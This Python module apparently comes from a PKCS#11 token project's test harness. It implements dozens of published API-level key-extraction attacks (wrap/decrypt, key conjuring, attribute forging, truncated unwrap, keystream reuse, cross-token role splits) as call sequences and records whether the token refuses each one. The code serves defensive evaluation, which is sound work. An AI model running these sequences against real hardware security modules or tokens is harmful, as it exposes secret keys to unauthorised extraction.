"""Every attack of Clulow (CHES 2003) and Bortolozzo, Centenaro, Focardi and Steel (CCS 2010)
on the confidentiality of a sensitive key, as sequences of legal PKCS#11 calls, plus the
variants keystead's design had to consider (mechanism tricks, a second token).

An attack returns :class:`Learned` (a candidate value for the target, checked against the
target's check value) or :class:`Weakened` (the token did something that lowers the key's
protection without revealing it outright, e.g. wrap it under a shorter key); a refused call
raises :class:`~.actor.Refused`. Attacks with several routes try each and report the first
that works. :func:`run` turns any of that into an :class:`Outcome`.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from cryptography.hazmat.primitives.keywrap import aes_key_unwrap_with_padding
from pkcs11 import KeyType

from .actor import CKA_KS_VALUE_KNOWN, CKM_AES_KEY_WRAP, A, Actor, M, Refused, Target, random_key
from .blocks import generic_check_value, kw_unwrap, kw_unwrap_with, kw_wrap, kw_wrap_with, xor

KW = CKM_AES_KEY_WRAP
IV = bytes(16)


@dataclass
class Learned:
    candidate: bytes | None
    target: Target
    how: str


@dataclass
class Weakened:
    how: str


Result = Learned | Weakened


@dataclass
class Outcome:
    """What an attack achieved: ``leaked`` (the value, or weaker protection) and how."""

    leaked: bool
    detail: str


@dataclass(frozen=True)
class Attack:
    name: str
    source: str
    run: Callable[[Actor], Result]


def _leaks(result: Result) -> bool:
    if isinstance(result, Weakened):
        return True
    return result.target.is_value(result.candidate)


def routes(*tries: tuple[str, Callable[[], Result]]) -> Result:
    """The first route whose result leaks; else the last result, or Refused naming every
    route's refusal."""
    refusals: list[str] = []
    last: Result | None = None
    for name, fn in tries:
        try:
            result = fn()
        except Refused as exc:
            refusals.append(f"{name}: {exc}")
            continue
        if _leaks(result):
            return result
        last = result
    if last is not None:
        return last
    raise Refused("; ".join(refusals))


def run(attack: Attack, actor: Actor) -> Outcome:
    """Mount ``attack`` as ``actor``'s user; never raises for a refused call."""
    actor.login_user()
    try:
        result = attack.run(actor)
    except Refused as exc:
        return Outcome(False, f"refused: {exc}")
    finally:
        actor.close()
    if isinstance(result, Weakened):
        return Outcome(True, f"weakened: {result.how}")
    if _leaks(result):
        return Outcome(True, f"value learned: {result.how}")
    return Outcome(False, f"wrong candidate: {result.how}")


# -- the attacks -----------------------------------------------------------------------------

def wrap_decrypt(a: Actor) -> Result:
    """Wrap the target under a key that may also decrypt, then decrypt the blob."""
    t = a.target()
    g = a.generate(WRAP=True, DECRYPT=True, ENCRYPT=False, UNWRAP=False, SENSITIVE=True)

    def cbc_pad() -> Result:
        blob = a.wrap(M.AES_CBC_PAD, g, t.handle, IV, step="C_WrapKey(CBC_PAD)")
        return Learned(a.decrypt(M.AES_CBC_PAD, g, blob, IV), t, "CBC-PAD wrap, decrypt")

    def kw_by_hand() -> Result:
        blob = a.wrap(KW, g, t.handle, step="C_WrapKey(KW)")
        return Learned(kw_unwrap_with(a.decrypt_block(g), blob), t, "KW wrap, ECB decrypt")

    return routes(("cbc-pad", cbc_pad), ("kw", kw_by_hand))


def _wrap_under_known(a: Actor, t: Target, kek: int, kek_value: bytes, how: str) -> Result:
    """Wrap the target under a key whose value the attacker knows and unwrap it offline."""
    def kw() -> Result:
        blob = a.wrap(KW, kek, t.handle, step=f"{how}: C_WrapKey(KW) under the known key")
        return Learned(kw_unwrap(kek_value, blob), t, f"{how}, KW wrap")

    def cbc_pad() -> Result:
        blob = a.wrap(M.AES_CBC_PAD, kek, t.handle, IV,
                      step=f"{how}: C_WrapKey(CBC_PAD) under the known key")
        from cryptography.hazmat.primitives import padding
        from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
        dec = Cipher(algorithms.AES(kek_value), modes.CBC(IV)).decryptor()
        padded = dec.update(blob) + dec.finalize()
        unpad = padding.PKCS7(128).unpadder()
        return Learned(unpad.update(padded) + unpad.finalize(), t, f"{how}, CBC-PAD wrap")

    def kwp() -> Result:
        blob = a.wrap(a.kwp(), kek, t.handle, step=f"{how}: C_WrapKey(KWP) under the known key")
        return Learned(aes_key_unwrap_with_padding(kek_value, blob), t, f"{how}, KWP wrap")

    return routes(("kw", kw), ("kwp", kwp), ("cbc-pad", cbc_pad))


def encrypt_unwrap(a: Actor) -> Result:
    """Encrypt a chosen value under a key that may also unwrap, unwrap it as a wrapping key of
    known value, wrap the target under it."""
    t = a.target()
    g = a.generate(ENCRYPT=True, UNWRAP=True, DECRYPT=False, WRAP=False, SENSITIVE=True)
    k = random_key()

    def by_mech(mech: int, param: bytes | None, name: str) -> Callable[[], Result]:
        def go() -> Result:
            blob = a.encrypt(mech, g, k, param, step=f"C_Encrypt({name}) of the chosen key")
            kk = a.unwrap(mech, g, blob, param, step=f"C_UnwrapKey({name})", WRAP=True,
                          SENSITIVE=True, EXTRACTABLE=False)
            return _wrap_under_known(a, t, kk, k, f"conjured by {name} encrypt/unwrap")
        return go

    return routes(("cbc-pad", by_mech(M.AES_CBC_PAD, IV, "CBC_PAD")),
                  ("kw", by_mech(KW, None, "KW")))


def _raw_block_oracle(mode: str) -> Callable[[Actor], Result]:
    def attack(a: Actor) -> Result:
        """Compute an RFC 3394 wrapping of a chosen key by hand from single-block encryptions
        under a key that may unwrap, unwrap it, wrap the target under it."""
        t = a.target()
        g = a.generate(ENCRYPT=True, UNWRAP=True, DECRYPT=False, WRAP=False, SENSITIVE=True)
        k = random_key()
        blob = kw_wrap_with(a.encrypt_block(mode, g), k)
        kk = a.unwrap(KW, g, blob, step="C_UnwrapKey(KW) of the forged blob", WRAP=True,
                      SENSITIVE=True)
        return _wrap_under_known(a, t, kk, k, f"RFC 3394 by hand with {mode.upper()}")
    return attack


def reimport_weaker(a: Actor) -> Result:
    """Wrap the sensitive target and unwrap the blob as a non-sensitive key."""
    t = a.target()
    g = a.generate(WRAP=True, UNWRAP=True, ENCRYPT=False, DECRYPT=False, SENSITIVE=True)
    mech = a.kwp() if a.kind == "softhsm2" else KW
    blob = a.wrap(mech, g, t.handle)
    copy = a.unwrap(mech, g, blob, step="C_UnwrapKey(SENSITIVE=false)", SENSITIVE=False,
                    EXTRACTABLE=True, ENCRYPT=True)
    return Learned(a.read_value(copy), t, "re-imported non-sensitive, read CKA_VALUE")


def reimport_conflicting_roles(a: Actor) -> Result:
    """Wrap a wrapping key, unwrap two copies (one may wrap, one may decrypt), wrap the target
    under one and decrypt with the other."""
    t = a.target()
    h = a.generate(WRAP=True, UNWRAP=True, ENCRYPT=False, DECRYPT=False, SENSITIVE=True)

    def two_copies() -> Result:
        g = a.generate(EXTRACTABLE=True, SENSITIVE=True, WRAP=False, DECRYPT=False)
        wg = a.wrap(KW, h, g, step="C_WrapKey(KW) of the key to duplicate")
        ga = a.unwrap(KW, h, wg, step="C_UnwrapKey copy A (wrap)", WRAP=True, DECRYPT=False,
                      SENSITIVE=True)
        gb = a.unwrap(KW, h, wg, step="C_UnwrapKey copy B (decrypt)", WRAP=False,
                      DECRYPT=True, SENSITIVE=True)
        blob = a.wrap(KW, ga, t.handle, step="C_WrapKey(KW) under copy A")
        return Learned(kw_unwrap_with(a.decrypt_block(gb), blob), t, "two copies")

    def after_use() -> Result:
        g = a.generate(EXTRACTABLE=True, SENSITIVE=True, WRAP=True, DECRYPT=False)
        blob = a.wrap(KW, g, t.handle, step="C_WrapKey(KW) under the wrapping key")
        wg = a.wrap(KW, h, g, step="C_WrapKey(KW) of the wrapping key itself")
        gb = a.unwrap(KW, h, wg, step="C_UnwrapKey copy (decrypt)", WRAP=False,
                      DECRYPT=True, SENSITIVE=True)
        return Learned(kw_unwrap_with(a.decrypt_block(gb), blob), t, "decrypting copy")

    return routes(("two-copies", two_copies), ("after-use", after_use))


def known_wrapping_key(a: Actor) -> Result:
    """Import a wrapping key whose value the attacker chose (or a copy of it), wrap the target
    under it."""
    t = a.target()
    k = random_key()
    kk = a.create(k, step="C_CreateObject of a known wrapping key", WRAP=True, UNWRAP=True)

    def copied() -> Result:
        c = a.copy(kk, step="C_CopyObject of the known key")
        return _wrap_under_known(a, t, c, k, "copy of an imported KEK")

    return routes(("imported", lambda: _wrap_under_known(a, t, kk, k, "imported KEK")),
                  ("copied", copied))


def forge_generated_kek(a: Actor) -> Result:
    """Import a key of known value claiming the attributes of a generated one (CKA_LOCAL,
    CKA_ALWAYS_SENSITIVE, CKA_NEVER_EXTRACTABLE, keystead's CKA_KS_VALUE_KNOWN false), at
    creation or on a copy, and wrap the target under it."""
    t = a.target()
    k = random_key()
    claims: dict[int, object] = {A.LOCAL: True, A.ALWAYS_SENSITIVE: True,
                                 A.NEVER_EXTRACTABLE: True, A.KEY_GEN_MECHANISM: M.AES_KEY_GEN}
    if a.kind == "keystead":
        claims[CKA_KS_VALUE_KNOWN] = False

    def each(name: str, make: Callable[[dict[int, object]], int]) -> Callable[[], Result]:
        def go() -> Result:
            tries: list[str] = []
            for attr, value in claims.items():
                try:
                    kk = make({attr: value})
                except Refused as exc:
                    tries.append(str(exc))
                    continue
                return _wrap_under_known(a, t, kk, k, f"{name} claiming {attr:#x}")
            raise Refused("; ".join(tries))
        return go

    def created(extra: dict[int, object]) -> int:
        return a.create(k, step=f"C_CreateObject({extra})", extra=extra, WRAP=True,
                        SENSITIVE=True)

    def copied(extra: dict[int, object]) -> int:
        kk = a.create(k, WRAP=True, SENSITIVE=True)
        return a.copy(kk, step=f"C_CopyObject({extra})", extra=extra)

    return routes(("create", each("created", created)), ("copy", each("copied", copied)))


def overwrite_kek_value(a: Actor) -> Result:
    """Give a key generated in the token (value unknown, so trusted to wrap) a value the
    attacker chose: by C_SetAttributeValue or on a copy."""
    t = a.target()
    k = random_key()
    g = a.generate(WRAP=True, UNWRAP=False, ENCRYPT=False, DECRYPT=False, SENSITIVE=True)

    def by_set() -> Result:
        a.set(g, step="C_SetAttributeValue(CKA_VALUE)", VALUE=k)
        return _wrap_under_known(a, t, g, k, "value overwritten")

    def by_copy() -> Result:
        c = a.copy(g, step="C_CopyObject(CKA_VALUE)", VALUE=k)
        return _wrap_under_known(a, t, c, k, "copy with a new value")

    return routes(("set", by_set), ("copy", by_copy))


def trojan_wrapped_key(a: Actor) -> Result:
    """Import a known unwrapping key, unwrap a wrapping key the attacker chose and wrapped
    offline, wrap the target under it."""
    t = a.target()
    u = random_key()
    uu = a.create(u, step="C_CreateObject of a known unwrapping key", UNWRAP=True)
    k = random_key()
    kk = a.unwrap(KW, uu, kw_wrap(u, k), step="C_UnwrapKey(KW) of the trojan key", WRAP=True,
                  SENSITIVE=True)
    return _wrap_under_known(a, t, kk, k, "trojan wrapped key")


def weak_wrapping_key(a: Actor) -> Result:
    """Wrap an AES-256 key under an AES-128 key: 128 bits of work instead of 256."""
    t = a.target()
    g = a.generate(16, WRAP=True, UNWRAP=False, ENCRYPT=False, DECRYPT=False, SENSITIVE=True)
    a.wrap(KW, g, t.handle, step="C_WrapKey(KW) of AES-256 under AES-128")
    return Weakened("an AES-256 key wrapped under an AES-128 key")


def key_binding(a: Actor) -> Result:
    """Wrap the target with a block mode and unwrap half of the blob as a key of its own:
    the two halves of the key can then be attacked separately."""
    t = a.target()
    g = a.generate(WRAP=True, UNWRAP=True, ENCRYPT=False, DECRYPT=False, SENSITIVE=True)

    def split(mech: int, param: bytes | None, name: str) -> Callable[[], Result]:
        def go() -> Result:
            blob = a.wrap(mech, g, t.handle, param, step=f"C_WrapKey({name})")
            a.unwrap(mech, g, blob[:16], param, step=f"C_UnwrapKey({name}) of one half",
                     SENSITIVE=True, ENCRYPT=True)
            return Weakened(f"{name}: half of the key unwrapped as an AES-128 key")
        return go

    return routes(("ecb", split(M.AES_ECB, None, "ECB")), ("cbc", split(M.AES_CBC, IV, "CBC")))


def truncated_unwrap(a: Actor) -> Result:
    """Unwrap the wrapped target as a generic secret of 1, 2, ... 32 bytes and find each new
    byte from the short key's check value (256 tries a byte)."""
    t = a.target()
    g = a.generate(WRAP=True, UNWRAP=True, ENCRYPT=False, DECRYPT=False, SENSITIVE=True)

    def learn(mech: int, param: bytes | None, name: str, whole_blob: bool) -> Callable[[], Result]:
        def go() -> Result:
            blob = a.wrap(mech, g, t.handle, param, step=f"C_WrapKey({name})")
            known = b""
            for n in range(1, 33):
                part = blob if whole_blob else blob[:16 * ((n + 15) // 16)]
                short = a.unwrap(mech, g, part, param, key_type=KeyType.GENERIC_SECRET,
                                 step=f"C_UnwrapKey({name}, CKA_VALUE_LEN={n})", VALUE_LEN=n,
                                 SENSITIVE=True, SIGN=True)
                cv = a.check_value(short)
                hit = [b for b in range(256) if generic_check_value(known + bytes([b])) == cv]
                if len(hit) != 1:
                    return Learned(None, t, f"{name}: byte {n} not found")
                known += bytes(hit)
            return Learned(known, t, f"{name}: truncated unwraps, one byte at a time")
        return go

    return routes(("ecb", learn(M.AES_ECB, None, "ECB", False)),
                  ("cbc", learn(M.AES_CBC, IV, "CBC", False)),
                  ("kw", learn(KW, None, "KW", True)))


def keystream_reuse(a: Actor) -> Result:
    """Wrap the target and a known key under one KEK with the same CTR counter or GCM IV;
    the XOR of the blobs is the XOR of the keys."""
    t = a.target()
    g = a.generate(WRAP=True, UNWRAP=False, ENCRYPT=False, DECRYPT=False, SENSITIVE=True)
    k = random_key()
    kk = a.create(k, step="C_CreateObject of a known key", EXTRACTABLE=True)

    def ctr() -> Result:
        ct = a.wrap(M.AES_CTR, g, t.handle, a.raw.ctr(bytes(16)), step="C_WrapKey(CTR)")
        ck = a.wrap(M.AES_CTR, g, kk, a.raw.ctr(bytes(16)), step="C_WrapKey(CTR) known key")
        return Learned(xor(xor(ct, ck), k), t, "CTR keystream reused")

    def gcm() -> Result:
        ct = a.wrap(M.AES_GCM, g, t.handle, a.raw.gcm(bytes(12)), step="C_WrapKey(GCM)")
        ck = a.wrap(M.AES_GCM, g, kk, a.raw.gcm(bytes(12)), step="C_WrapKey(GCM) known key")
        return Learned(xor(xor(ct[:32], ck[:32]), k), t, "GCM IV reused")

    return routes(("ctr", ctr), ("gcm", gcm))


def read_sensitive(a: Actor) -> Result:
    """Read CKA_VALUE of the sensitive key directly (Tookan's a3)."""
    t = a.target()
    return Learned(a.read_value(t.handle), t, "C_GetAttributeValue")


def set_clear_sensitive(a: Actor) -> Result:
    """Set CKA_SENSITIVE false (Tookan's a5), then read the value."""
    t = a.target()
    a.set(t.handle, step="C_SetAttributeValue(SENSITIVE=false)", SENSITIVE=False)
    return Learned(a.read_value(t.handle), t, "sensitivity cleared")


def read_unextractable(a: Actor) -> Result:
    """Read CKA_VALUE of a key that is not sensitive but not extractable (Tookan's a4)."""
    t = a.target(SENSITIVE=False, EXTRACTABLE=False)
    return Learned(a.read_value(t.handle), t, "C_GetAttributeValue")


def make_extractable(a: Actor) -> Result:
    """Make a non-extractable sensitive key extractable (C_SetAttributeValue, C_CopyObject)
    and wrap it under a key the attacker imported."""
    t = a.target(EXTRACTABLE=False)
    k = random_key()
    kk = a.create(k, step="C_CreateObject of a known wrapping key", WRAP=True)

    def by_set() -> Result:
        a.set(t.handle, step="C_SetAttributeValue(EXTRACTABLE=true)", EXTRACTABLE=True)
        return _wrap_under_known(a, t, kk, k, "made extractable")

    def by_copy() -> Result:
        c = a.copy(t.handle, step="C_CopyObject(EXTRACTABLE=true)", EXTRACTABLE=True)
        return _wrap_under_known(a, Target(c, t.check_value), kk, k, "extractable copy")

    return routes(("set", by_set), ("copy", by_copy))


def sensitive_later(a: Actor) -> Result:
    """Generate a key non-sensitive, read its value, make it sensitive (so it looks like a
    generated secret), wrap the target under it."""
    t = a.target()
    g = a.generate(WRAP=True, UNWRAP=False, ENCRYPT=False, DECRYPT=False, SENSITIVE=False,
                   EXTRACTABLE=True)
    k = a.read_value(g, step="C_GetAttributeValue of the non-sensitive key")
    a.set(g, step="C_SetAttributeValue(SENSITIVE=true)", SENSITIVE=True)
    return _wrap_under_known(a, t, g, k, "made sensitive after reading")


def set_flip_role(a: Actor) -> Result:
    """Wrap the target under a key that may only wrap, then switch that key to decrypt."""
    t = a.target()
    g = a.generate(WRAP=True, DECRYPT=False, ENCRYPT=False, UNWRAP=False, SENSITIVE=True)
    blob = a.wrap(KW, g, t.handle)
    a.set(g, step="C_SetAttributeValue(WRAP=false, DECRYPT=true)", WRAP=False, DECRYPT=True)
    return Learned(kw_unwrap_with(a.decrypt_block(g), blob), t, "role flipped after use")


def copy_clear_sensitive(a: Actor) -> Result:
    """Copy the target with CKA_SENSITIVE false, read the copy."""
    t = a.target()
    c = a.copy(t.handle, step="C_CopyObject(SENSITIVE=false)", SENSITIVE=False)
    return Learned(a.read_value(c), t, "non-sensitive copy")


def copy_change_role(a: Actor) -> Result:
    """Wrap the target under a wrap-only key, copy that key as a decrypt-only key."""
    t = a.target()
    g = a.generate(WRAP=True, DECRYPT=False, ENCRYPT=False, UNWRAP=False, SENSITIVE=True)
    blob = a.wrap(KW, g, t.handle)
    c = a.copy(g, step="C_CopyObject(WRAP=false, DECRYPT=true)", WRAP=False, DECRYPT=True)
    return Learned(kw_unwrap_with(a.decrypt_block(c), blob), t, "decrypting copy of the KEK")


def wrap_under_itself(a: Actor) -> Result:
    """Wrap the target under itself and decrypt the blob with it."""
    t = a.target()

    def kw() -> Result:
        blob = a.wrap(KW, t.handle, t.handle, step="C_WrapKey(KW) under itself")
        return Learned(kw_unwrap_with(a.decrypt_block(t.handle), blob), t, "KW under itself")

    def cbc_pad() -> Result:
        blob = a.wrap(M.AES_CBC_PAD, t.handle, t.handle, IV,
                      step="C_WrapKey(CBC_PAD) under itself")
        return Learned(a.decrypt(M.AES_CBC_PAD, t.handle, blob, IV), t, "CBC-PAD under itself")

    return routes(("kw", kw), ("cbc-pad", cbc_pad))


def wrap_with_trusted_bypass(a: Actor) -> Result:
    """A CKA_WRAP_WITH_TRUSTED target wrapped under a key the attacker knows: by clearing the
    attribute, by a copy without it, or by a re-import under a trusted KEK without it."""
    kt = _so_trusted_kek(a)  # before session objects: the SO step closes every session
    t = a.target(WRAP_WITH_TRUSTED=True)
    k = random_key()
    kk = a.create(k, step="C_CreateObject of a known wrapping key", WRAP=True)

    def direct() -> Result:
        return _wrap_under_known(a, t, kk, k, "as is")

    def cleared() -> Result:
        a.set(t.handle, step="C_SetAttributeValue(WRAP_WITH_TRUSTED=false)",
              WRAP_WITH_TRUSTED=False)
        return _wrap_under_known(a, t, kk, k, "attribute cleared")

    def copied() -> Result:
        c = a.copy(t.handle, step="C_CopyObject(WRAP_WITH_TRUSTED=false)",
                   WRAP_WITH_TRUSTED=False)
        return _wrap_under_known(a, Target(c, t.check_value), kk, k, "copy without it")

    def reimported() -> Result:
        if kt is None:
            raise Refused("no trusted KEK (the SO could not set CKA_TRUSTED)")
        blob = a.wrap(KW, kt, t.handle, step="C_WrapKey(KW) under the trusted KEK")
        c = a.unwrap(KW, kt, blob, step="C_UnwrapKey(WRAP_WITH_TRUSTED=false)",
                     WRAP_WITH_TRUSTED=False, SENSITIVE=True, EXTRACTABLE=True)
        return _wrap_under_known(a, Target(c, t.check_value), kk, k, "re-imported without it")

    return routes(("direct", direct), ("cleared", cleared), ("copied", copied),
                  ("reimported", reimported))


def self_trusted_kek(a: Actor) -> Result:
    """Mark the attacker's own imported key CKA_TRUSTED (at creation, by C_SetAttributeValue,
    by C_CopyObject), then wrap a CKA_WRAP_WITH_TRUSTED target under it."""
    t = a.target(WRAP_WITH_TRUSTED=True)
    k = random_key()

    def at_create() -> Result:
        kk = a.create(k, step="C_CreateObject(TRUSTED=true)", WRAP=True, TRUSTED=True)
        return _wrap_under_known(a, t, kk, k, "created trusted")

    def by_set() -> Result:
        kk = a.create(k, WRAP=True)
        a.set(kk, step="C_SetAttributeValue(TRUSTED=true)", TRUSTED=True)
        return _wrap_under_known(a, t, kk, k, "set trusted")

    def by_copy() -> Result:
        kk = a.create(k, WRAP=True)
        c = a.copy(kk, step="C_CopyObject(TRUSTED=true)", TRUSTED=True)
        return _wrap_under_known(a, t, c, k, "copied trusted")

    return routes(("create", at_create), ("set", by_set), ("copy", by_copy))


def _so_trusted_kek(a: Actor) -> int | None:
    """A KEK generated in the token (public token object, wrap/unwrap only, never leaves)
    that the SO marks trusted; None when the module does not let the SO do that."""
    label = f"trusted-kek-{random_key(6).hex()}"
    a.generate(TOKEN=True, PRIVATE=False, WRAP=True, UNWRAP=True, ENCRYPT=False,
               DECRYPT=False, SENSITIVE=True, EXTRACTABLE=False, LABEL=label)

    def mark(h: int) -> None:
        kt = a.raw.find_objects(h, {A.LABEL: label})
        a.raw.set_attributes(h, kt[0], {A.TRUSTED: True})

    try:
        a.as_so("SO: C_SetAttributeValue(TRUSTED=true)", mark)
    except Refused:
        a.find_token_object(label)
        return None
    return a.find_token_object(label)


def shared_kek(a: Actor) -> tuple[Actor, int, int]:
    """The set-up of the attacks across two tokens: the SO imports one random KEK into a's
    token and its peer's, trusted in both (README, "move a key between tokens"); both users
    log in. Returns (the peer, the KEK's handle here, the KEK's handle on the peer)."""
    b = a.peer
    assert b is not None
    shared = random_key()
    label_a = a.so_import_trusted(shared)
    label_b = b.so_import_trusted(shared)
    a.login_user()
    b.login_user()
    return b, a.find_token_object(label_a), b.find_token_object(label_b)


def role_split_across_tokens(a: Actor) -> Result:
    """Carry a wrapping key to a second token under a KEK the SO shares between the two
    (trusted in both), unwrap it there as a decryption key (that token has never seen its
    value) and decrypt there what it wrapped here."""
    b, kt_a, kt_b = shared_kek(a)
    t = a.target()

    def carry(wg: bytes, blob: bytes, how: str) -> Result:
        g2 = b.unwrap(KW, kt_b, wg, step="peer: C_UnwrapKey(KW) as a decryption key",
                      WRAP=False, DECRYPT=True, SENSITIVE=True)
        return Learned(kw_unwrap_with(b.decrypt_block(g2), blob), t, how)

    def after_use() -> Result:
        g = a.generate(WRAP=True, EXTRACTABLE=True, SENSITIVE=True, DECRYPT=False)
        blob = a.wrap(KW, g, t.handle, step="C_WrapKey(KW) of the target")
        wg = a.wrap(KW, kt_a, g, step="C_WrapKey(KW) of the KEK under the shared KEK")
        return carry(wg, blob, "KEK carried after use")

    def before_use() -> Result:
        g = a.generate(WRAP=True, EXTRACTABLE=True, SENSITIVE=True, DECRYPT=False)
        wg = a.wrap(KW, kt_a, g, step="C_WrapKey(KW) of the KEK under the shared KEK")
        blob = a.wrap(KW, g, t.handle, step="C_WrapKey(KW) of the target")
        return carry(wg, blob, "KEK carried before use")

    return routes(("after-use", after_use), ("before-use", before_use))


def data_key_wraps_across_tokens(a: Actor) -> Result:
    """The role split the other way round: a data key made here is wrapped under a KEK the SO
    shares between the two tokens (so it is a data key here, rule 2), unwrapped on the peer,
    where it arrives without a role, and used there as the wrapping key of the peer's
    sensitive key; back here the data key decrypts that blob (RFC 3394 by hand from ECB, or
    C_Decrypt with CKM_AES_KEY_WRAP where the token offers it)."""
    b, kt_a, kt_b = shared_kek(a)
    t = b.target()
    d = a.generate(EXTRACTABLE=True, SENSITIVE=True, WRAP=True, UNWRAP=True, ENCRYPT=True,
                   DECRYPT=True)
    wd = a.wrap(KW, kt_a, d, step="C_WrapKey(KW) of the data key under the shared KEK")
    d_b = b.unwrap(KW, kt_b, wd, step="peer: C_UnwrapKey(KW) of the data key",
                   WRAP=True, UNWRAP=True, ENCRYPT=True, DECRYPT=True, SENSITIVE=True)
    blob = b.wrap(KW, d_b, t.handle, step="peer: C_WrapKey(KW) of its key under the data key")

    def kw_decrypt() -> Result:
        return Learned(a.decrypt(KW, d, blob, step="C_Decrypt(KW) under the data key"), t,
                       "C_Decrypt(CKM_AES_KEY_WRAP) of the peer's blob")

    def by_hand() -> Result:
        return Learned(kw_unwrap_with(a.decrypt_block(d), blob), t,
                       "ECB decryption of the peer's blob")

    return routes(("kw-decrypt", kw_decrypt), ("ecb", by_hand))


def trusted_kek_for_data(a: Actor) -> Result:
    """The SO's trusted KEK, shared by two tokens, put to data use in one of them: the peer
    wraps its sensitive key under the KEK; here the user gives the KEK CKA_DECRYPT (by
    C_SetAttributeValue, or in a copy) and decrypts the blob (C_Decrypt with
    CKM_AES_KEY_WRAP, or RFC 3394 by hand from ECB)."""
    b, kt_a, kt_b = shared_kek(a)
    t = b.target()
    blob = b.wrap(KW, kt_b, t.handle, step="peer: C_WrapKey(KW) of its key under the KEK")

    def learn(kek: int) -> Result:
        try:
            return Learned(a.decrypt(KW, kek, blob, step="C_Decrypt(KW) under the KEK"), t,
                           "C_Decrypt(CKM_AES_KEY_WRAP) of the peer's blob")
        except Refused:
            return Learned(kw_unwrap_with(a.decrypt_block(kek), blob), t,
                           "ECB decryption of the peer's blob")

    def set_decrypt() -> Result:
        a.set(kt_a, step="C_SetAttributeValue(DECRYPT=true) on the shared KEK", DECRYPT=True)
        return learn(kt_a)

    def copy_decrypt() -> Result:
        return learn(a.copy(kt_a, step="C_CopyObject(DECRYPT=true) of the shared KEK",
                            DECRYPT=True))

    return routes(("set", set_decrypt), ("copy", copy_decrypt))


ATTACKS: list[Attack] = [
    Attack("wrap-decrypt", "Clulow 2003 (key separation); Bortolozzo 2010 (wrap/decrypt)",
           wrap_decrypt),
    Attack("encrypt-unwrap", "Bortolozzo 2010 (encrypt/unwrap, key conjuring)",
           encrypt_unwrap),
    Attack("raw-block-oracle-ecb", "README wrap policy rule 6 (RFC 3394 by hand from ECB)",
           _raw_block_oracle("ecb")),
    Attack("raw-block-oracle-cbc", "README wrap policy rule 6 (RFC 3394 by hand from CBC, zero IV)",
           _raw_block_oracle("cbc")),
    Attack("raw-block-oracle-ctr", "README wrap policy rule 6 (RFC 3394 by hand from CTR counters)",
           _raw_block_oracle("ctr")),
    Attack("reimport-weaker", "Bortolozzo 2010 (re-import with weaker attributes)",
           reimport_weaker),
    Attack("reimport-conflicting-roles",
           "Delaune, Kremer, Steel 2008 / Bortolozzo 2010 (re-import with conflicting roles)",
           reimport_conflicting_roles),
    Attack("known-wrapping-key", "Clulow 2003 (trojan key); Bortolozzo 2010 (imported KEK)",
           known_wrapping_key),
    Attack("trojan-wrapped-key", "Clulow 2003 (trojan wrapped key)", trojan_wrapped_key),
    Attack("forge-generated-kek", "Bortolozzo 2010 (attribute forging on import, CKA_LOCAL)",
           forge_generated_kek),
    Attack("overwrite-kek-value", "PKCS#11 4.10 (CKA_VALUE not modifiable) on a trusted KEK",
           overwrite_kek_value),
    Attack("weak-wrapping-key", "Clulow 2003 (wrapping with a weaker key)", weak_wrapping_key),
    Attack("key-binding", "Clulow 2003 (key binding: halves of a wrapped key)", key_binding),
    Attack("truncated-unwrap", "Clulow 2003 key binding, to single bytes", truncated_unwrap),
    Attack("keystream-reuse",
           "README wrap policy rule 6 (caller's CTR counter / GCM IV on C_WrapKey)",
           keystream_reuse),
    Attack("read-sensitive", "Bortolozzo 2010 (Tookan a3: sensitive key readable)",
           read_sensitive),
    Attack("read-unextractable", "Bortolozzo 2010 (Tookan a4: unextractable key readable)",
           read_unextractable),
    Attack("make-extractable", "PKCS#11 4.10 (CKA_EXTRACTABLE only to false): set or copy",
           make_extractable),
    Attack("sensitive-later", "Bortolozzo 2010 (CKA_ALWAYS_SENSITIVE: a known key made "
           "sensitive)", sensitive_later),
    Attack("set-clear-sensitive", "Bortolozzo 2010 (Tookan a5: sensitive made non-sensitive)",
           set_clear_sensitive),
    Attack("set-flip-role", "Bortolozzo 2010 (C_SetAttributeValue after use)", set_flip_role),
    Attack("copy-clear-sensitive", "Bortolozzo 2010 (Tookan cobj: C_CopyObject)",
           copy_clear_sensitive),
    Attack("copy-change-role", "Bortolozzo 2010 (C_CopyObject to change roles)",
           copy_change_role),
    Attack("wrap-under-itself", "Clulow 2003 / Bortolozzo 2010 (a key wrapping itself)",
           wrap_under_itself),
    Attack("wrap-with-trusted-bypass", "PKCS#11 2.20 trusted keys; Bortolozzo 2010 (sticky)",
           wrap_with_trusted_bypass),
    Attack("role-split-across-tokens",
           "conflicting-roles re-import (Bortolozzo 2010) across two tokens sharing a KEK",
           role_split_across_tokens),
    Attack("data-key-wraps-across-tokens",
           "conflicting roles across two tokens: a wrapped data key unwraps role-less and "
           "wraps on the second token", data_key_wraps_across_tokens),
    Attack("trusted-kek-for-data",
           "conflicting roles across two tokens: the SO's shared trusted KEK given a data "
           "usage in one token decrypts what it wrapped in the other", trusted_kek_for_data),
    Attack("self-trusted-kek", "PKCS#11 4.10 footnote 11 (only the SO sets CKA_TRUSTED)",
           self_trusted_kek),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}
